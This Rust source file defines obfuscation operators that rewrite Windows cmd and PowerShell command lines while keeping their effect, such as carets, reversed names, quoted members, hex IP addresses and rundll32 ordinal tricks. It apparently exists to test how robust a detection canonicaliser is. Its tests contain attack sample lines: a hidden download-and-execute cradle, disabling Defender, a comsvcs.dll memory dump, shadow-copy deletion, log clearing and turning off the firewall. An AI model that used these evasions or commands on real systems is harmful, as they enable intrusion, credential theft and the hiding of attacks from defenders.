//! List C: operators written down after lists A and B by a hand that has not seen the
//! canonicaliser, opened only to measure.
//!
//! Each says why the program that reads the line still does the same. Where that holds only for
//! some lines, the operator does not apply to the others.

mod cmd;
mod powershell;

use std::ops::Range;

use crate::operators::{Operator, each_word, is_powershell, words};

/// The operators of list C.
pub const OPERATORS: &[Operator] = &[
    Operator { name: "cmd /r", what: "cmd takes `/r` for `/c`", edit: cmd::other_switch },
    Operator { name: "joined /c", what: "cmd needs no space after `/c`", edit: cmd::joined_switch },
    Operator {
        name: "parentheses",
        what: "cmd runs a group of one command",
        edit: cmd::parentheses,
    },
    Operator {
        name: "true condition",
        what: "cmd's `if` of what is so",
        edit: cmd::true_condition,
    },
    Operator { name: "carets throughout", what: "cmd drops each caret", edit: cmd::carets },
    Operator {
        name: "delayed variable",
        what: "cmd fills `!q!` in when it runs",
        edit: cmd::delayed_variable,
    },
    Operator {
        name: "redirection inside",
        what: "cmd takes a redirection out wherever it stands",
        edit: cmd::redirection_inside,
    },
    Operator {
        name: "script block",
        what: "PowerShell calls a block",
        edit: powershell::script_block,
    },
    Operator {
        name: "empty statement",
        what: "PowerShell skips bare semicolons",
        edit: powershell::empty_statement,
    },
    Operator {
        name: "comment",
        what: "PowerShell takes `<##>` for a space",
        edit: powershell::comment,
    },
    Operator {
        name: "continued line",
        what: "PowerShell goes on after a backtick and a new line",
        edit: powershell::continued_line,
    },
    Operator {
        name: "call operator",
        what: "PowerShell calls what `&` is given",
        edit: powershell::call_operator,
    },
    Operator {
        name: "module name",
        what: "a cmdlet with its module's name",
        edit: powershell::module_name,
    },
    Operator {
        name: "script variable",
        what: "a command's name from a variable of the script",
        edit: powershell::script_variable,
    },
    Operator {
        name: "reversed",
        what: "a command's name spelt backwards and turned round",
        edit: powershell::reversed,
    },
    Operator {
        name: "named position",
        what: "the parameter's name before a bare argument",
        edit: powershell::named_position,
    },
    Operator {
        name: "system prefix",
        what: "a .NET type with `System.` or without",
        edit: powershell::system_prefix,
    },
    Operator {
        name: "quoted member",
        what: "the name of a method as a string",
        edit: powershell::quoted_member,
    },
    Operator {
        name: "curly quotes",
        what: "PowerShell takes curly quotes for straight ones",
        edit: powershell::curly_quotes,
    },
    Operator {
        name: "window style",
        what: "`hidden` as a number or cut short",
        edit: powershell::window_style,
    },
    Operator {
        name: "shifted encoding",
        what: "spaces before an encoded script",
        edit: powershell::shifted_encoding,
    },
    Operator {
        name: "truth number",
        what: "1 for `$true`, 0 for `$false`",
        edit: powershell::truth_number,
    },
    Operator { name: "piped", what: "`X|iex` for `iex X`", edit: powershell::piped },
    Operator {
        name: "segment dot",
        what: "Windows drops one dot after a folder's name",
        edit: segment_dot,
    },
    Operator { name: "no drive", what: "the drive is C: anyway", edit: no_drive },
    Operator { name: "sysnative", what: "System32 as 32-bit programs call it", edit: sysnative },
    Operator {
        name: "registry root",
        what: "a root of the registry by its other name",
        edit: registry_root,
    },
    Operator { name: "net1", what: "net hands these verbs to net1", edit: net1 },
    Operator {
        name: "rundll32 gap",
        what: "rundll32 takes a space for the comma",
        edit: rundll32_gap,
    },
    Operator {
        name: "library name",
        what: "rundll32's library without `.dll`",
        edit: library_name,
    },
    Operator { name: "ordinal", what: "rundll32 reads `#+07` as `#7`", edit: ordinal },
    Operator { name: "wmic path", what: "wmic's alias as the class behind it", edit: wmic_path },
    Operator { name: "long verb", what: "a verb or switch by its other name", edit: long_verb },
    Operator { name: "netsh prefix", what: "netsh takes names cut short", edit: netsh_prefix },
    Operator {
        name: "swapped pairs",
        what: "two switches with their values change places",
        edit: swapped_pairs,
    },
    Operator {
        name: "open quote",
        what: "a quote before the last word that never closes",
        edit: open_quote,
    },
    Operator { name: "default port", what: "a URL with its scheme's port", edit: default_port },
    Operator { name: "url dot", what: "`/./` for `/` in a URL", edit: url_dot },
    Operator {
        name: "hex address",
        what: "an IPv4 address in hexadecimal or octal",
        edit: hex_address,
    },
];

/// The line with another text in the place of a range of it.
fn put(line: &str, place: &Range<usize>, text: &str) -> String {
    format!("{}{text}{}", &line[..place.start], &line[place.end..])
}

/// The name of a program without its folder, quotes and `.exe`, in small letters.
fn bare_name(word: &str) -> String {
    let lower = word.trim_matches('"').to_ascii_lowercase();
    let name = lower.rsplit(['\\', '/']).next().unwrap_or_default();
    name.strip_suffix(".exe").unwrap_or(name).to_owned()
}

/// Whether a word of the line, the first or a later one, names the program.
fn names(line: &str, program: &str) -> bool {
    words(line).iter().any(|word| bare_name(&line[word.start..word.end]) == program)
}

/// Whether the first word names one of the programs.
fn runs(line: &str, programs: &[&str]) -> bool {
    words(line)
        .first()
        .is_some_and(|word| programs.contains(&bare_name(&line[word.start..word.end]).as_str()))
}

/// The place of a path's drive letter in a word.
fn drive(word: &str) -> Option<usize> {
    let at = word.find(":\\")?.checked_sub(1)?;
    let bytes = word.as_bytes();
    let begins = at == 0 || bytes.get(at - 1).is_some_and(|b| b"\"'=:,".contains(b));
    (begins && bytes.get(at)?.is_ascii_alphabetic()).then_some(at)
}

/// Windows takes one dot off the end of each part of a path ("File path formats", .NET manual).
fn segment_dot(line: &str) -> Vec<String> {
    each_word(line, |_, word, _| {
        let start = drive(word)? + 3;
        let end = start + word[start..].find('\\')?;
        (end > start && !word[..end].ends_with('.'))
            .then(|| format!("{}.{}", &word[..end], &word[end..]))
    })
}

/// A path from the root is on the current drive, which is C: unless somebody changed it.
fn no_drive(line: &str) -> Vec<String> {
    each_word(line, |_, word, _| {
        let at = drive(word).filter(|at| word[*at..].starts_with(['C', 'c']))?;
        Some(format!("{}{}", &word[..at], &word[at + 2..]))
    })
}

/// To a 32-bit program the folder `Sysnative` is the 64-bit System32.
fn sysnative(line: &str) -> Vec<String> {
    const FOLDER: &str = "\\windows\\system32\\";
    let lower = line.to_ascii_lowercase();
    lower.match_indices(FOLDER).map(|(at, _)| put(line, &(at + 9..at + 17), "Sysnative")).collect()
}

/// The short and the whole names of the registry's roots.
const ROOTS: &[(&str, &str)] = &[
    ("HKLM", "HKEY_LOCAL_MACHINE"),
    ("HKCU", "HKEY_CURRENT_USER"),
    ("HKCR", "HKEY_CLASSES_ROOT"),
    ("HKU", "HKEY_USERS"),
];

/// reg takes both names; PowerShell has drives for the short ones and a provider for the whole.
fn registry_root(line: &str) -> Vec<String> {
    let mut results = Vec::new();
    if names(line, "reg") {
        results.extend(each_word(line, |_, word, _| {
            let key = word.trim_start_matches('"');
            let root = key.split('\\').next()?;
            let other = ROOTS.iter().find_map(|(short, whole)| {
                if root.eq_ignore_ascii_case(short) {
                    return Some(whole);
                }
                root.eq_ignore_ascii_case(whole).then_some(short)
            })?;
            let quote = &word[..word.len() - key.len()];
            Some(format!("{quote}{other}{}", &key[root.len()..]))
        }));
    }
    if is_powershell(line) {
        let lower = line.to_ascii_lowercase();
        for (short, whole) in ROOTS {
            let root = format!("{}:\\", short.to_ascii_lowercase());
            let place = lower.find(&root).map(|at| at..at + root.len());
            results.extend(place.map(|place| put(line, &place, &format!("Registry::{whole}\\"))));
        }
    }
    results
}

/// For these verbs net does nothing but start net1 with the same words.
fn net1(line: &str) -> Vec<String> {
    let verbs = ["user", "group", "localgroup", "accounts", "start", "stop", "share", "session"];
    let words = words(line);
    let text = |at: usize| words.get(at).map_or("", |word| &line[word.start..word.end]);
    (0..words.len())
        .filter(|at| bare_name(text(*at)) == "net")
        .filter(|at| verbs.iter().any(|verb| verb.eq_ignore_ascii_case(text(*at + 1))))
        .filter_map(|at| {
            let end = words.get(at)?.start + text(at).to_ascii_lowercase().rfind("net")? + 3;
            Some(put(line, &(end..end), "1"))
        })
        .collect()
}

/// The place of the ending of rundll32's library, when a comma follows.
fn library_ending(line: &str) -> Option<Range<usize>> {
    if !names(line, "rundll32") {
        return None;
    }
    let at = line.to_ascii_lowercase().find(".dll,")?;
    Some(at..at + ".dll".len())
}

/// rundll32 ends the library's name at a comma or a space.
fn rundll32_gap(line: &str) -> Vec<String> {
    let Some(ending) = library_ending(line) else { return Vec::new() };
    vec![format!("{} {}", &line[..ending.end], line[ending.end..].trim_start_matches(','))]
}

/// The loader of libraries puts `.dll` after a name that has no dot.
fn library_name(line: &str) -> Vec<String> {
    let Some(ending) = library_ending(line) else { return Vec::new() };
    let name = line[..ending.start].rsplit(['\\', ' ', '"']).next().unwrap_or_default();
    if name.contains('.') { Vec::new() } else { vec![put(line, &ending, "")] }
}

/// rundll32 reads what follows `#` as a number: a sign and zeros before it do not tell.
fn ordinal(line: &str) -> Vec<String> {
    let Some(at) = line.find(",#").filter(|_| names(line, "rundll32")) else { return Vec::new() };
    let start = at + ",#".len();
    if !line[start..].starts_with(|c: char| c.is_ascii_digit()) {
        return Vec::new();
    }
    ["+", "0", "+000"].iter().map(|sign| put(line, &(start..start), sign)).collect()
}

/// wmic's aliases and the classes that `wmic alias list brief` gives for them.
const CLASSES: &[(&str, &str)] = &[
    ("process", "Win32_Process"),
    ("shadowcopy", "Win32_ShadowCopy"),
    ("service", "Win32_Service"),
    ("product", "Win32_Product"),
    ("os", "Win32_OperatingSystem"),
    ("startup", "Win32_StartupCommand"),
    ("useraccount", "Win32_UserAccount"),
    ("qfe", "Win32_QuickFixEngineering"),
];

/// An alias stands for a query of its class, which `path` asks for by name.
fn wmic_path(line: &str) -> Vec<String> {
    let all = words(line);
    let mut rest = all
        .iter()
        .map(|word| (word, &line[word.start..word.end]))
        .skip_while(|(_, text)| bare_name(text) != "wmic")
        .skip(1)
        .skip_while(|(_, text)| text.starts_with('/'));
    let Some((word, text)) = rest.next() else { return Vec::new() };
    CLASSES
        .iter()
        .filter(|(alias, _)| alias.eq_ignore_ascii_case(text))
        .map(|(_, class)| put(line, &(word.start..word.end), &format!("path {class}")))
        .collect()
}

/// Programs and words of theirs that their own help gives as two forms of one.
const FORMS: &[(&str, &[(&str, &str)])] = &[
    (
        "wevtutil",
        &[
            ("cl", "clear-log"),
            ("sl", "set-log"),
            ("gl", "get-log"),
            ("el", "enum-logs"),
            ("qe", "query-events"),
            ("epl", "export-log"),
            ("im", "install-manifest"),
            ("um", "uninstall-manifest"),
        ],
    ),
    ("msiexec", &[("/i", "/package"), ("/x", "/uninstall"), ("/qn", "/quiet")]),
];

/// A verb or switch by the other of its two names.
fn long_verb(line: &str) -> Vec<String> {
    let own: Vec<(&str, &str)> = FORMS
        .iter()
        .filter(|(program, _)| names(line, program))
        .flat_map(|(_, forms)| forms.iter().copied())
        .collect();
    each_word(line, |place, word, _| {
        let other = own.iter().find_map(|(short, long)| {
            if word.eq_ignore_ascii_case(short) {
                return Some(*long);
            }
            word.eq_ignore_ascii_case(long).then_some(*short)
        })?;
        (place > 0).then(|| other.to_owned())
    })
}

/// netsh takes the beginning of a context's name where no other context begins so.
fn netsh_prefix(line: &str) -> Vec<String> {
    if !names(line, "netsh") {
        return Vec::new();
    }
    let contexts = ["advfirewall", "firewall", "interface", "portproxy", "winhttp"];
    each_word(line, |place, word, _| {
        let known = contexts.iter().any(|one| one.eq_ignore_ascii_case(word));
        (place > 0 && known).then(|| word[..word.len() - 3].to_owned())
    })
}

/// These programs look for each of their switches by name, in any order.
fn swapped_pairs(line: &str) -> Vec<String> {
    let programs = ["schtasks", "reg", "taskkill", "tasklist", "forfiles", "eventcreate"];
    if !programs.iter().any(|program| names(line, program)) {
        return Vec::new();
    }
    let words = words(line);
    let text = |at: usize| words.get(at).map_or("", |word| &line[word.start..word.end]);
    let switch = |at: usize| {
        let name = text(at).strip_prefix(['/', '-']).unwrap_or_default();
        // After `/c` and `/k` comes a command, which may go on to the end.
        let command = ["c", "k"].iter().any(|one| one.eq_ignore_ascii_case(name));
        !command && name.len() < 12 && name.starts_with(|c: char| c.is_ascii_alphabetic())
    };
    let pair =
        |at: usize| switch(at) && at + 1 < words.len() && !text(at + 1).starts_with(['/', '-']);
    (1..words.len())
        .filter(|at| pair(*at) && pair(at + 2) && (at + 4 == words.len() || switch(at + 4)))
        .filter_map(|at| {
            let (first, second) = (words.get(at)?.start, words.get(at + 2)?.start);
            let (ends, end) = (words.get(at + 1)?.end, words.get(at + 3)?.end);
            let (one, other) = (&line[first..ends], &line[second..end]);
            Some(format!("{}{other} {one}{}", &line[..first], &line[end..]))
        })
        .take(15)
        .collect()
}

/// The C runtime closes a quote at the end of the line ("Parsing C command-line arguments").
fn open_quote(line: &str) -> Vec<String> {
    let programs = ["net", "net1", "reg", "schtasks", "sc", "wevtutil", "taskkill", "vssadmin"];
    let words = words(line);
    let Some(last) = words.last().filter(|_| words.len() > 1) else { return Vec::new() };
    if line.contains('"') || !runs(line, &programs) || line.ends_with('\\') {
        return Vec::new();
    }
    vec![put(line.trim_end(), &(last.start..last.start), "\"")]
}

/// Where the scheme of a URL ends in a word, and where its host does.
fn url(word: &str) -> Option<(usize, usize)> {
    let start = word.find("://")?;
    let host = start + "://".len();
    let rest = word.get(host..)?;
    let length =
        rest.find(|c: char| !c.is_ascii_alphanumeric() && !".-_".contains(c)).unwrap_or(rest.len());
    (length > 0).then_some((start, host + length))
}

/// A port that is the scheme's default may be written or not (RFC 3986, section 6.2.3).
fn default_port(line: &str) -> Vec<String> {
    each_word(line, |_, word, _| {
        let (scheme, host) = url(word)?;
        let before = word[..scheme].to_ascii_lowercase();
        let port = [("https", ":443"), ("http", ":80"), ("ftp", ":21")]
            .iter()
            .find(|(name, _)| before.ends_with(*name))
            .map(|(_, port)| *port)?;
        let bare = !word[host..].starts_with([':', '@', '%']);
        bare.then(|| format!("{}{port}{}", &word[..host], &word[host..]))
    })
}

/// Clients take `.` and `x/..` out of a URL's path (RFC 3986, section 5.2.4).
fn url_dot(line: &str) -> Vec<String> {
    ["/./", "/x/../"]
        .into_iter()
        .flat_map(|dots| {
            each_word(line, move |_, word, _| {
                let (_, host) = url(word)?;
                let path = host + word[host..].find('/')?;
                let port = word[host..path].trim_start_matches(':');
                port.bytes()
                    .all(|b| b.is_ascii_digit())
                    .then(|| format!("{}{dots}{}", &word[..path], &word[path + 1..]))
            })
        })
        .collect()
}

/// The parts of an address may be hexadecimal or octal (`inet_aton`).
fn hex_address(line: &str) -> Vec<String> {
    let forms: [fn(u8) -> String; 2] = [|part| format!("{part:#x}"), |part| format!("0{part:o}")];
    forms
        .into_iter()
        .flat_map(|form| {
            each_word(line, move |_, word, _| {
                let start = word.find(|c: char| c.is_ascii_digit())?;
                let length = word[start..]
                    .find(|c: char| !c.is_ascii_digit() && c != '.')
                    .unwrap_or(word.len() - start);
                let address: std::net::Ipv4Addr = word[start..start + length].parse().ok()?;
                let parts = address.octets().map(form);
                let rest = &word[start + length..];
                Some(format!("{}{}{rest}", &word[..start], parts.join(".")))
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Lines such that each operator applies to one of them.
    const LINES: &[&str] = &[
        r#"cmd.exe /c "net user guest /active:yes""#,
        "cmd /c whoami /all",
        "powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://a.test/x')",
        r#"powershell.exe -Command "Set-MpPreference -DisableRealtimeMonitoring $true""#,
        "powershell -enc dwBoAG8AYQBtAGkA",
        r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll,#24 654 a.dmp full",
        r"reg add HKLM\Software\Example /v a /t REG_SZ /d b /f",
        "wmic shadowcopy delete",
        "wevtutil cl System",
        "netsh advfirewall set allprofiles state off",
        "ping 192.0.2.1",
        "net stop example",
    ];

    fn one(name: &str, line: &str) -> Vec<String> {
        let operator = OPERATORS.iter().find(|operator| operator.name == name);
        (operator.expect("a known operator").edit)(line)
    }

    #[test]
    fn each_operator_changes_a_line_that_it_is_made_for() {
        for operator in OPERATORS {
            let results: Vec<(&str, String)> = LINES
                .iter()
                .flat_map(|line| {
                    (operator.edit)(line).into_iter().map(move |result| (*line, result))
                })
                .collect();
            assert!(!results.is_empty(), "{}", operator.name);
            for (line, result) in results {
                assert_ne!(result, line, "{}", operator.name);
            }
        }
    }

    #[test]
    fn edits_for_cmd_look_as_they_should() {
        assert_eq!(one("cmd /r", "cmd /c dir"), ["cmd /r dir"]);
        assert_eq!(one("joined /c", "cmd /c dir"), ["cmd /cdir"]);
        assert_eq!(one("parentheses", r#"cmd /c "a b""#)[0], r#"cmd /c "(a b)""#);
        assert_eq!(one("carets throughout", "cmd /c ab -c"), ["cmd /c ^a^b -^c", "cmd /c ab ^-c"]);
        assert_eq!(
            one("redirection inside", "cmd /c a b"),
            ["cmd /c 2>nul a b", "cmd /c a 2>nul b"]
        );
        assert_eq!(
            one("delayed variable", "net user"),
            [r#"cmd /v:on /c "set q=net&&!q! user""#, r#"cmd /v:on /c "set q=user&&net !q!""#]
        );
    }

    #[test]
    fn edits_for_powershell_look_as_they_should() {
        let line = r"powershell -c iex (New-Object Net.WebClient).DownloadString('u')";
        assert_eq!(
            one("piped", line),
            ["powershell -c (New-Object Net.WebClient).DownloadString('u')|iex"]
        );
        assert_eq!(
            one("reversed", line)[0],
            "powershell -c &('xei'[2..0] -join '') (New-Object Net.WebClient).DownloadString('u')"
        );
        assert_eq!(
            one("quoted member", line),
            ["powershell -c iex (New-Object Net.WebClient).'DownloadString'('u')"]
        );
        assert_eq!(
            one("script variable", r#"powershell "gc a""#),
            [r#"powershell "$q='gc';&$q a""#]
        );
        assert_eq!(
            one("window style", "powershell -w hidden"),
            ["powershell -w 1", "powershell -w hid", "powershell -w h"]
        );
        assert!(one("script block", "powershell -enc dwBoAG8AYQBtAGkA").is_empty());
    }

    #[test]
    fn edits_for_programs_look_as_they_should() {
        assert_eq!(one("segment dot", r"type C:\a\b"), [r"type C:\a.\b"]);
        assert_eq!(one("registry root", r"reg query HKCU\a"), [r"reg query HKEY_CURRENT_USER\a"]);
        assert_eq!(one("net1", "net.exe stop a"), ["net1.exe stop a"]);
        assert_eq!(one("swapped pairs", "reg add K /v a /d b /f"), ["reg add K /d b /v a /f"]);
        assert_eq!(one("wmic path", "wmic os get"), ["wmic path Win32_OperatingSystem get"]);
        assert_eq!(one("default port", "x https://a.example/b"), ["x https://a.example:443/b"]);
        assert_eq!(
            one("hex address", "ping 192.0.2.1"),
            ["ping 0xc0.0x0.0x2.0x1", "ping 0300.00.02.01"]
        );
    }
}
